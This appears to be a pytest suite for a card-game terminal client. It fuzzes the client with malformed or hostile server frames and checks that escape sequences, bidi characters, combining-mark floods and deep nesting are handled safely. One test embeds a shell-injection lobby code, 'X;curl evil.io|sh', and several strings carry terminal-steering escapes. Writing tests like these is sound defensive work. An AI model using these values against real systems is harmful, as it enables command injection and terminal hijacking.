"""A server that means harm, or is broken: no frame of it breaks a client, no text of it steers a terminal."""

import asyncio
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from random import Random

import pytest
from msgspec.structs import replace

from client import state as s
from client.acts.anywhere import settled
from client.kept.identity import Keyring
from client.line import network as module
from client.line.cleaning import cleaned
from client.line.network import Network
from client.screens.desk import Desk, Overlay, Screen
from client.screens.frame import Frame
from client.screens.parting import parting_text
from client.settings import Settings
from client.state import ClientState
from client.store import AnyEvent, reduce
from client.way_in.invites import invites
from fuzzing.evenings import LOBBY, WELCOME, frames_of_an_evening
from fuzzing.mutations import mutated
from fuzzing.samples import event_frames
from fuzzing.targets import client as client_target
from fuzzing.victims import Victim
from protocol import events as e
from protocol.answers import Goodbye, Refused
from protocol.codec import decode_event, encode_event, frame_event
from protocol.commands import Hello
from protocol.errors import RemoteProtocolError
from protocol.events import Event
from protocol.framing import EVENT_CAP, PREFIX, frame
from protocol.numbers import EventNumber, PlayNumber, Seat
from protocol.refusals import Refusal
from protocol.text import MAX_MARKS
from tests.protocol.examples import a_deal, a_play
from tests.support.fake_server import FakeServer
from tests.support.screen_states import dealt, in_lobby, lobby_state, online

SEEDS = range(10)
FRAMES = 2_000  # of each seed: 20,000 in all
BAD = (
    "\x1b[31m\x1b]0;owned\x07\x9b5A\u202e\u2066\u200b\ufeff\r\n\x00\x7f"
    + "e\u0301\u0302\u0303\u0304" * 40
)
ODD_NAME = "\x1b[2Jb\u202eo\u200b"


# --- frames ----------------------------------------------------------------------------------------


def hostile_frames(rng: Random) -> Iterator[bytes]:
    """Evenings at a table, again and again: half of it mutated, replaced, or of another evening."""
    samples = event_frames(rng, each=3)
    while True:
        evening = frames_of_an_evening(rng)
        for body in evening:
            luck = rng.random()
            if luck < 0.4:
                yield mutated(body, rng, samples + evening)
            elif luck < 0.5:
                yield rng.choice(samples)
            else:
                yield body


@pytest.mark.parametrize("seed", SEEDS)
def test_a_hostile_server_once_broke_the_client_with_a_seat_that_is_not_there(seed: int) -> None:
    rng = Random(seed)
    victim = Victim(rng, draw_every=8)

    for _, body in zip(range(FRAMES), hostile_frames(rng), strict=False):
        victim.hear(body)

    assert victim.outcomes["heard"] > FRAMES // 3
    assert victim.outcomes["refused"] > FRAMES // 6
    assert victim.outcomes["drawn"] > FRAMES // 30


def test_a_client_that_was_lied_to_goes_on_with_the_truth() -> None:
    lied_to, honest = Victim(Random(1), draw_every=50), Victim(Random(1), draw_every=50)
    lie = as_frame(a_play(1, 9))
    evening = frames_of_an_evening(Random(1))
    begun = next(at for at, body in enumerate(evening) if b"deal_started" in body)

    for at, body in enumerate(evening):
        honest.hear(body)
        lied_to.hear(b"\xc1" + body)  # 0xc1 begins nothing in MessagePack
        lied_to.hear(body)
        if at >= begun:
            lied_to.hear(lie)

    assert lied_to.outcomes["refused"] == 2 * len(evening) - begun
    assert replace(lied_to.state, now=0.0) == replace(honest.state, now=0.0)


@pytest.mark.parametrize("seed", range(3))
def test_the_target_of_longer_runs_finds_nothing_here(seed: int) -> None:
    rng = Random(seed)
    evening = frames_of_an_evening(rng)

    for _ in range(60):
        client_target(mutated(b"\xff".join(rng.sample(evening, 3)), rng, evening))


def test_an_event_that_cannot_be_changes_nothing() -> None:
    before = dealt()

    with pytest.raises(RemoteProtocolError, match="Played cannot be: there is no seat 9"):
        reduce(before, a_play(1, 9), 1.0)


# --- texts -----------------------------------------------------------------------------------------

NAMED = e.LobbySeat(name=ODD_NAME, kind=e.SeatKind.COMPUTER, temperament=ODD_NAME, connected=False)
A_LISTING = e.Listing(
    code=ODD_NAME,
    host=ODD_NAME,
    stage=e.LobbyStage.GATHERING,
    rules=LOBBY.rules,
    size=4,
    seated=(ODD_NAME,),
)
TEXTS: dict[str, tuple[Event, ...]] = {
    "welcome": (replace(WELCOME, title=BAD[:40], version=BAD[:40], temperaments=(ODD_NAME,)),),
    "talk": (e.Said(name=ODD_NAME, text=BAD[:200]),),
    "news": tuple(e.LobbyNews(news=news, name=ODD_NAME, detail=BAD) for news in e.News),
    "lobby": (
        e.LobbyChanged(
            lobby=replace(
                LOBBY,
                code=ODD_NAME,
                host=ODD_NAME,
                seats=(NAMED,),
                watching=(ODD_NAME,),
                asking=(ODD_NAME,),
                match_winner=ODD_NAME,
                settings=e.LobbySettings(shout=BAD[:20]),
            )
        ),
    ),
    "hall": (e.HallChanged(online=1, lobbies=(A_LISTING,)), e.Listed(lobby=A_LISTING)),
    "leaving": (e.LobbyLeft(reason=BAD),),
    "deal": (
        replace(a_deal(), seats=(e.SeatState(name=ODD_NAME, cards=26),) * 3),
        e.HandDealt(seat=Seat(1), cards=()),
        a_play(1, 1),
        e.ChairChanged(seat=Seat(2), name=ODD_NAME, chair=e.Chair.STAND_IN),
    ),
    "vote": (
        a_deal(),
        e.VoteState(
            vote=1, on=e.VoteOn.PAUSE, by=ODD_NAME, yes=1, no=0, needed=2, left_us=1_000_000
        ),
    ),
    "refusal": (Refused(n=None, code=Refusal.TOO_FAST, clause=BAD[:8], text=BAD),),
    "goodbye": (Goodbye(code=Refusal.CLOSING, text=BAD),),
}


@pytest.mark.parametrize("events", TEXTS.values(), ids=TEXTS)
@pytest.mark.parametrize("start", ["in the hall", "in a lobby", "at a table"])
def test_texts_of_a_hostile_server_are_drawn_harmlessly(
    start: str, events: tuple[Event, ...]
) -> None:
    victim = Victim(Random(1), draw_every=1)
    began = frames_of_an_evening(Random(2))
    shown = {"in the hall": began[:2], "in a lobby": began[:3], "at a table": began[:9]}[start]

    for body in (*shown, *(as_frame(event) for event in events)):
        victim.hear(body)  # it looks at every line and every page itself

    assert victim.outcomes == Counter(
        heard=len(shown) + len(events), drawn=len(shown) + len(events)
    )


def as_frame(event: Event) -> bytes:
    return frame_event(EventNumber(0), encode_event(event))[PREFIX:]


def test_of_a_thousand_combining_marks_of_a_hostile_server_two_are_drawn() -> None:
    piled = e.LobbyLeft(reason="o" + "\u0301" * 399)

    (line,) = reduce(online(), cleaned(piled), 1.0).log[-1:]

    assert line.text == "\xf3\u0301\u0301"  # the third is part of the letter


def test_a_word_that_was_no_word_of_ours_was_quoted_with_all_its_combining_marks() -> None:
    vote = e.VoteState(vote=1, on=e.VoteOn.PAUSE, by="bo", yes=1, no=0, needed=2, left_us=1_000_000)
    word = ("o" + "\u0301" * 20).encode()
    said = as_frame(vote).replace(b"\xa5pause", b"\xd9" + bytes([len(word)]) + word)

    with pytest.raises(RemoteProtocolError) as refused:
        decode_event(said)

    assert "Invalid enum value" in str(refused.value)
    assert str(refused.value).count("\u0301") <= MAX_MARKS


def test_more_combining_marks_than_a_text_may_have_are_no_message() -> None:
    victim = Victim(Random(1), draw_every=1)

    victim.hear(as_frame(e.Said(name="bo", text="o" + "\u0301" * 1_000)))

    assert victim.outcomes == Counter(refused=1)


@pytest.mark.parametrize("columns", range(1, 8))
def test_what_nobody_said_crashed_a_client_whose_log_lay_open_in_two_columns(columns: int) -> None:
    nothing = cleaned(e.Said(name="\x1b", text="\x1b"))
    state = reduce(in_lobby(), nothing, 1.0)
    desk = Desk(overlay=Overlay.LOG, screen=Screen.LOBBY)
    frame = Frame(state=state, desk=desk, columns=columns, rows=24, now=1.0)

    assert settled(frame).overlay is Overlay.LOG


def test_a_temperament_once_steered_the_terminal_of_the_plain_client() -> None:
    seat = cleaned(NAMED)

    assert (seat.name, seat.temperament) == ("[2Jbo", "[2Jbo")


def test_a_lobby_could_be_called_what_a_shell_obeys_and_stood_in_lines_that_people_paste() -> None:
    bad = replace(lobby_state(), code="X;curl evil.io|sh")

    state = replace(in_lobby(), lobby=bad, ssh="ssh -t play@box ")

    pasted = [
        *[invite.text for invite in invites(state)],
        parting_text(state, Desk()),
        parting_text(state, Desk(settings=Settings(kiosk=True))),
    ]
    assert [line for line in pasted if "CODE" not in line or "curl" in line] == []


def test_an_honest_message_is_not_touched() -> None:
    message = e.LobbyChanged(lobby=LOBBY)

    assert cleaned(message) is message


# --- bounds ----------------------------------------------------------------------------------------


def test_the_hall_of_a_hostile_server_once_grew_without_an_end() -> None:
    state = online()
    for number in range(600):
        listed = e.Listed(lobby=replace(A_LISTING, code=f"FOX-{number}"))
        state = reduce(state, listed, 1.0)

    assert len(state.hall.lobbies) == 500
    assert state.hall.lobbies[-1].code == "FOX-599"


def test_the_strip_of_late_calls_once_grew_without_an_end() -> None:
    state: ClientState = dealt()
    for _ in range(50):
        late = e.LateCall(play=PlayNumber(1), call=e.Call(seat=Seat(2), after_us=1))
        state = reduce(state, late, 1.0)

    assert len(state.late) == 10


# --- the line --------------------------------------------------------------------------------------


class FoldingEars:
    """A client's way of listening: what cannot be folded in ends the line."""

    def __init__(self) -> None:
        self.state = ClientState(name="maya")
        self.events: list[AnyEvent] = []
        self.news = asyncio.Event()

    def tell(self, events: Sequence[AnyEvent]) -> None:
        for event in events:
            self.state = reduce(self.state, event, 0.0)
            self.events.append(event)
        self.news.set()

    async def hear(self, kind: type[object], count: int = 1) -> list[AnyEvent]:
        async with asyncio.timeout(5):
            while len(found := [one for one in self.events if isinstance(one, kind)]) < count:
                self.news.clear()
                await self.news.wait()
        return found


async def _in_the_middle(
    monkeypatch: pytest.MonkeyPatch, harm: Callable[[FakeServer], None]
) -> tuple[FoldingEars, FakeServer]:
    """A client that was let in, met with this harm, and came back after it."""
    monkeypatch.setattr(module, "FIRST_RETRY_S", 0.001)
    ears = FoldingEars()
    async with FakeServer() as server, asyncio.TaskGroup() as group:
        network = Network(
            server.address, name="maya", version="test", keyring=Keyring(None), tell=ears.tell
        )
        group.create_task(network.run())
        await ears.hear(e.HallChanged)
        harm(server)
        await ears.hear(s.LinkLost)
        await server.hears(Hello, 2)
        await ears.hear(e.HallChanged, 2)
        network.close()
    return ears, server


def test_a_server_that_tells_what_cannot_be_is_left_and_asked_for_a_snapshot(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    ears, server = asyncio.run(
        _in_the_middle(monkeypatch, lambda server: server.say(a_deal(), a_play(1, 9)))
    )

    (lost,) = [event for event in ears.events if isinstance(event, s.LinkLost)]
    again = [message for message in server.heard if isinstance(message, Hello)][1]
    assert "there is no seat 9" in lost.reason
    assert again.resume is not None
    assert again.resume.epoch == ""  # nothing that is missing will do: show me all of it


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(b"\x92\x00" + b"\x81\xa1a" * 1000 + b"\xc0", id="for the fields"),
        pytest.param(b"\x92" + b"\x91" * 1000 + b"\xc0\x91\xa1a", id="for the number"),
    ],
)
def test_a_thousand_maps_or_lists_in_one_another_once_crashed_the_client(
    monkeypatch: pytest.MonkeyPatch, body: bytes
) -> None:
    deep = frame(body, EVENT_CAP)

    ears, _ = asyncio.run(_in_the_middle(monkeypatch, lambda server: server.send(deep)))

    (lost,) = [event for event in ears.events if isinstance(event, s.LinkLost)]
    assert "does not speak our protocol" in lost.reason
